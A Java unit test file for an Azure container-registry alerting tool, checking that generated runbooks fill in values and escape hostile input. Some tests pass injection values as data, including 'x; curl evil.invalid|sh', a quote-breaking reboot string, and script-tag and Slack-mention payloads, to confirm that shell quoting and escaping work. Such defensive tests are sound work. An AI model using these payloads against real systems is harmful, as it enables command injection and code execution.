package dev.acrwatch.notify;

import static org.assertj.core.api.Assertions.assertThat;

import dev.acrwatch.alert.AlertSnapshot;
import dev.acrwatch.alert.AlertStatus;
import java.time.Duration;
import java.util.List;
import java.util.Map;
import java.util.Optional;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;

class RunbooksTest {

    static List<String> classes() {
        return Runbooks.CLASSES;
    }

    @ParameterizedTest
    @MethodSource("classes")
    void everyClassHasARunbookWithCommandsAndNoUnfilledPlaceholders(String cls) {
        AlertView v = Fixtures.view(alert(cls, "myreg.azurecr.io", "sp-build"));
        assertThat(v.runbookClass()).isEqualTo(cls);
        String text = Runbooks.text(v);
        assertThat(text).startsWith("# ").contains("myreg").contains("```").contains("az ");
        for (String rendered : List.of(text, Runbooks.html(v), Runbooks.slack(v))) {
            assertThat(rendered).doesNotContain("{registry}", "{login_server}", "{identity}");
        }
    }

    @Test
    void unauthorizedRunbookNamesTheTopIdentityAndTheRegistryInPasteableCommands() {
        String text = Runbooks.text(Fixtures.view(Fixtures.firing("0a1b2c3d-sp")));
        assertThat(text)
                .contains("az ad sp credential list --id 0a1b2c3d-sp -o table")
                .contains("docker logout myreg.azurecr.io")
                .contains("az acr login -n myreg")
                .contains("AADSTS53003");
    }

    @Test
    void aRuleOverSeveralClassesGetsTheRunbookOfEachNeverTheUnknownOne() {
        AlertSnapshot a = alert("unauthorized,forbidden", "myreg.azurecr.io", "app-1");
        assertThat(Runbooks.classFor(a)).isEqualTo("unauthorized,forbidden");
        String text = Runbooks.text(Fixtures.view(a));
        assertThat(text).contains("az ad sp credential list --id app-1")
                .contains("az role assignment list --assignee app-1")
                .contains(Runbooks.text(Fixtures.view(alert("unauthorized", "myreg.azurecr.io", "app-1"))).strip())
                .contains(Runbooks.text(Fixtures.view(alert("forbidden", "myreg.azurecr.io", "app-1"))).strip());
        assertThat(text).doesNotContain(Runbooks.template("unknown").lines().findFirst().orElseThrow());
    }

    @Test
    void forbiddenRunbookScopesTheRoleQueryToTheRegistry() {
        String text = Runbooks.text(Fixtures.view(alert("forbidden", "myreg.azurecr.io", "app-1")));
        assertThat(text).contains(
                "az role assignment list --assignee app-1 --scope $(az acr show -n myreg --query id -o tsv)");
    }

    @Test
    void hostileIdentityIsShellQuotedSoAPastedCommandCannotRunIt() {
        String text = Runbooks.text(Fixtures.view(Fixtures.firing("x; curl evil.invalid|sh")));
        assertThat(text).contains("az ad sp credential list --id 'x; curl evil.invalid|sh' -o table");
    }

    @Test
    void singleQuoteInIdentityCannotCloseTheShellQuote() {
        String text = Runbooks.text(Fixtures.view(Fixtures.firing("a'; reboot; '")));
        assertThat(text).contains("--id 'a'\\''; reboot; '\\''' -o table");
    }

    @Test
    void hostileIdentityIsHtmlEscapedInTheHtmlRunbook() {
        String html = Runbooks.html(Fixtures.view(Fixtures.firing(Fixtures.HOSTILE_HTML)));
        assertThat(html).doesNotContain("<script>")
                .contains("&lt;script&gt;alert(&quot;x&quot;)&lt;/script&gt; &amp; co");
    }

    @Test
    void hostileIdentityIsMrkdwnEscapedInTheSlackRunbook() {
        String slack = Runbooks.slack(Fixtures.view(Fixtures.firing(Fixtures.HOSTILE_SLACK + " ```")));
        assertThat(slack).doesNotContain("<!channel>", "<@U123>", "<http://evil|x>")
                .contains("&lt;!channel&gt; &lt;@U123&gt; &lt;http://evil|x&gt;")
                // the value sits inside a ``` block; its own backticks must not close it
                .doesNotContain("x&gt; ```");
    }

    @Test
    void hostileRegistryIsEscapedInEveryFormat() {
        AlertView v = Fixtures.view(alert("throttled", "<b>evil</b>.azurecr.io", "id"));
        assertThat(Runbooks.html(v)).doesNotContain("<b>evil").contains("&lt;b&gt;evil&lt;/b&gt;");
        assertThat(Runbooks.slack(v)).doesNotContain("<b>evil").contains("&lt;b&gt;evil&lt;/b&gt;");
        assertThat(Runbooks.text(v)).contains("az acr show-usage -n '<b>evil</b>' -o table");
    }

    @Test
    void missingIdentityLeavesAVisiblePlaceholderToFillIn() {
        String text = Runbooks.text(Fixtures.view(alert("unauthorized", "myreg.azurecr.io", "")));
        assertThat(text).contains("az ad sp credential list --id <identity> -o table");
    }

    @Test
    void htmlRunbookTurnsMarkdownIntoTags() {
        String html = Runbooks.html(Fixtures.view(Fixtures.firing("sp")));
        assertThat(html).contains("<h3>", "<ol>", "<li>", "<b>Expired service-principal secret.</b>",
                "<pre><code>az ad sp credential list").doesNotContain("```", "**");
    }

    @Test
    void slackRunbookUsesSingleAsteriskBold() {
        String slack = Runbooks.slack(Fixtures.view(Fixtures.firing("sp")));
        assertThat(slack).contains("*Expired service-principal secret.*").doesNotContain("**");
    }

    @Test
    void ruleTypeChoosesTheRunbookWhenTheAlertHasNoClass() {
        AlertSnapshot blind = new AlertSnapshot("no-logs", "blind", AlertStatus.FIRING, "warning",
                Map.of("rule", "no-logs", "registry", "myreg.azurecr.io"), Map.of(), 900, 600,
                Duration.ofMinutes(15), Fixtures.NOW, Optional.empty(), Optional.empty(), Optional.empty(),
                List.of(), List.of(), List.of(), Optional.empty());
        assertThat(Runbooks.classFor(blind)).isEqualTo("blind");
        assertThat(Runbooks.text(Fixtures.view(blind))).contains("az monitor diagnostic-settings list");
    }

    static AlertSnapshot alert(String cls, String registry, String identity) {
        String type = cls.equals("blind") || cls.equals("absence") ? cls : "threshold";
        Map<String, String> labels = cls.equals("blind") || cls.equals("absence")
                ? Map.of("rule", "r", "registry", registry)
                : Map.of("rule", "r", "registry", registry, "class", cls);
        return new AlertSnapshot("r", type, AlertStatus.FIRING, "warning", labels, Map.of(), 5, 1,
                Duration.ofMinutes(5), Fixtures.NOW, Optional.empty(), Optional.empty(), Optional.empty(),
                List.of(new dev.acrwatch.alert.Contributor(identity, 5)), List.of(), List.of(), Optional.empty());
    }
}
